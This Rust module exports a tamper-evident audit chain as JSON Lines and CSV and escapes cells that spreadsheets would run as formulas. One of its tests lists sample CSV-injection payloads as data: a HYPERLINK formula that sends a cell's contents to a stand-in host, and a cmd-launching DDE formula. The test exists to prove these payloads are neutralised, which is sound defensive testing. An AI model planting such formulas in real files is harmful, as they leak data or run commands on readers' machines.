//! Export formats of the audit chain: JSON Lines and CSV.
//!
//! Both carry every hashed field exactly as stored (the `detail` JSON as a string, not re-encoded)
//! plus both hashes in hex, so an auditor can re-verify an export with the rule in
//! [`hash`](super::hash) without access to the node. `time` (RFC 3339, UTC) is added for people;
//! it is not hashed — `at` (Unix milliseconds) is.
//!
//! CSV is opened in spreadsheets, which run a cell beginning with `=`, `+`, `-` or `@` (and, in
//! some, a tab or carriage return) as a formula: an actor name or a refusal reason from outside
//! could then run on an auditor's machine (CSV injection). A text cell beginning with one of
//! those, or with `'`, gets a leading `'` (OWASP's advice; spreadsheets show the rest as text).
//! The rule is reversible — a text cell that begins with `'` had exactly one added
//! ([`csv_text_value`]) — so the hashes can still be re-verified from a CSV export.

use std::io::{self, Write};

use serde::Serialize;
use time::OffsetDateTime;
use time::format_description::well_known::Rfc3339;

use super::AuditRecord;

/// The export formats.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Format {
    /// One JSON object per line; reads back as [`AuditRecord`] (see [`parse_jsonl_line`]).
    Jsonl,
    /// RFC 4180 CSV with a header line.
    Csv,
}

/// The CSV header, in column order.
pub const CSV_HEADER: &str = "seq,at,time,actor,action,entity_kind,entity_id,detail,prev_hash,hash";

/// Unix milliseconds as RFC 3339 UTC (`2026-11-25T10:00:00.123Z`); empty if out of range.
pub fn rfc3339_ms(at: i64) -> String {
    OffsetDateTime::from_unix_timestamp_nanos(i128::from(at) * 1_000_000)
        .ok()
        .and_then(|t| t.format(&Rfc3339).ok())
        .unwrap_or_default()
}

#[derive(Serialize)]
struct JsonLine<'a> {
    seq: i64,
    at: i64,
    time: String,
    actor: &'a str,
    action: &'a str,
    entity_kind: &'a str,
    entity_id: &'a str,
    detail: &'a str,
    prev_hash: String,
    hash: String,
}

/// Writes the header (CSV only; JSON Lines has none).
pub fn write_header(out: &mut impl Write, format: Format) -> io::Result<()> {
    match format {
        Format::Jsonl => Ok(()),
        Format::Csv => writeln!(out, "{CSV_HEADER}\r"),
    }
}

/// Writes one record in `format`, with its line ending.
pub fn write_record(out: &mut impl Write, format: Format, r: &AuditRecord) -> io::Result<()> {
    match format {
        Format::Jsonl => {
            let line = JsonLine {
                seq: r.seq,
                at: r.at,
                time: rfc3339_ms(r.at),
                actor: &r.actor,
                action: &r.action,
                entity_kind: &r.entity_kind,
                entity_id: &r.entity_id,
                detail: &r.detail,
                prev_hash: hex::encode(r.prev_hash),
                hash: hex::encode(r.hash),
            };
            serde_json::to_writer(&mut *out, &line).map_err(io::Error::other)?;
            out.write_all(b"\n")
        }
        Format::Csv => {
            let fields = [
                r.seq.to_string(),
                r.at.to_string(),
                rfc3339_ms(r.at),
                csv_field(&r.actor),
                csv_field(&r.action),
                csv_field(&r.entity_kind),
                csv_field(&r.entity_id),
                csv_field(&r.detail),
                hex::encode(r.prev_hash),
                hex::encode(r.hash),
            ];
            write!(out, "{}\r\n", fields.join(","))
        }
    }
}

/// One line of a JSON Lines export back into a record (the `time` field is ignored).
pub fn parse_jsonl_line(line: &str) -> Result<AuditRecord, serde_json::Error> {
    serde_json::from_str(line)
}

/// The first characters that make a spreadsheet read a cell as a formula, and `'`, the escape
/// itself (so that every escaped cell can be told from an unescaped one).
const FORMULA_STARTS: [char; 7] = ['=', '+', '-', '@', '\t', '\r', '\''];

/// A text field as a CSV cell: neutralised against formulas (a leading `'` when it begins with
/// one of [`FORMULA_STARTS`]), then RFC 4180 quoting: quoted when it holds a comma, quote, CR or
/// LF; quotes doubled.
fn csv_field(s: &str) -> String {
    let s = if s.starts_with(FORMULA_STARTS) {
        format!("'{s}")
    } else {
        s.to_owned()
    };
    if s.contains([',', '"', '\r', '\n']) {
        format!("\"{}\"", s.replace('"', "\"\""))
    } else {
        s
    }
}

/// The stored value of a text cell of a CSV export (after RFC 4180 unquoting): the leading `'`
/// the export added against formulas removed. Use it to re-verify hashes from a CSV export.
pub fn csv_text_value(cell: &str) -> &str {
    cell.strip_prefix('\'').unwrap_or(cell)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::audit::{AuditEntry, ChainHead, verify_chain};

    fn chain() -> Vec<AuditRecord> {
        let mut head = ChainHead::GENESIS;
        (0..3)
            .map(|i| {
                let r = AuditRecord::next(
                    head,
                    1_764_000_000_000 + i,
                    AuditEntry::new(
                        "clerk:000.00.05.H21:an",
                        "document.submit",
                        "message",
                        i,
                        &serde_json::json!({ "note": "a, \"quoted\"\nline", "n": i }),
                    ),
                );
                head = r.head();
                r
            })
            .collect()
    }

    #[test]
    fn jsonl_round_trips_and_still_verifies() {
        let records = chain();
        let mut out = Vec::new();
        for r in &records {
            write_record(&mut out, Format::Jsonl, r).unwrap();
        }
        let text = String::from_utf8(out).unwrap();
        let back: Vec<AuditRecord> = text.lines().map(|l| parse_jsonl_line(l).unwrap()).collect();
        assert_eq!(back, records);
        assert_eq!(verify_chain(&back).unwrap().records, 3);
        assert!(text.contains("\"time\":\"2025-11-24T"));
    }

    #[test]
    fn csv_quotes_what_needs_quoting() {
        let records = chain();
        let mut out = Vec::new();
        write_header(&mut out, Format::Csv).unwrap();
        write_record(&mut out, Format::Csv, &records[0]).unwrap();
        let text = String::from_utf8(out).unwrap();
        assert!(text.starts_with("seq,at,time,actor,"));
        assert!(text.contains(r#""{""n"":0,""note"":""a, \""quoted\""\nline""}""#));
        assert_eq!(csv_field("plain"), "plain");
    }

    /// Every formula trigger is neutralised, in every text column, and the stored value is
    /// recovered exactly (so the chain re-verifies from the CSV).
    #[test]
    fn csv_cells_cannot_run_as_formulas() {
        let dangerous = [
            "=HYPERLINK(\"http://x.example/?\"&A1,\"bấm\")",
            "+1+cmd|' /C calc'!A0",
            "-2+3",
            "@SUM(1,1)",
            "\t=1",
            "\r=1",
            "'=already quoted",
            "plain",
        ];
        let mut head = ChainHead::GENESIS;
        let records: Vec<AuditRecord> = dangerous
            .iter()
            .enumerate()
            .map(|(i, d)| {
                let r = AuditRecord::next(
                    head,
                    1_764_000_000_000,
                    AuditEntry::new(*d, *d, *d, i as i64, &serde_json::json!({ "reason": d })),
                );
                head = r.head();
                r
            })
            .collect();
        let mut back = Vec::new();
        for r in &records {
            let mut out = Vec::new();
            write_record(&mut out, Format::Csv, r).unwrap();
            let line = String::from_utf8(out).unwrap();
            let cells = parse_csv_line(line.strip_suffix("\r\n").unwrap());
            assert_eq!(cells.len(), 10, "{line:?}");
            for cell in &cells[3..8] {
                assert!(
                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                    "{cell:?} in {line:?}"
                );
            }
            let text = |i: usize| csv_text_value(&cells[i]).to_owned();
            let hash = |i: usize| <[u8; 32]>::try_from(hex::decode(&cells[i]).unwrap()).unwrap();
            back.push(AuditRecord {
                seq: cells[0].parse().unwrap(),
                at: cells[1].parse().unwrap(),
                actor: text(3),
                action: text(4),
                entity_kind: text(5),
                entity_id: text(6),
                detail: text(7),
                prev_hash: hash(8),
                hash: hash(9),
            });
        }
        assert_eq!(back, records);
        assert_eq!(verify_chain(&back).unwrap().records, dangerous.len() as u64);
    }

    /// RFC 4180, enough for one record of the export (a quoted field may hold CR, LF, commas).
    fn parse_csv_line(line: &str) -> Vec<String> {
        let mut cells = vec![String::new()];
        let mut quoted = false;
        let mut chars = line.chars().peekable();
        while let Some(c) = chars.next() {
            let cell = cells.last_mut().unwrap();
            match (quoted, c) {
                (false, '"') if cell.is_empty() => quoted = true,
                (true, '"') if chars.peek() == Some(&'"') => {
                    chars.next();
                    cell.push('"');
                }
                (true, '"') => quoted = false,
                (false, ',') => cells.push(String::new()),
                (_, c) => cell.push(c),
            }
        }
        cells
    }
}
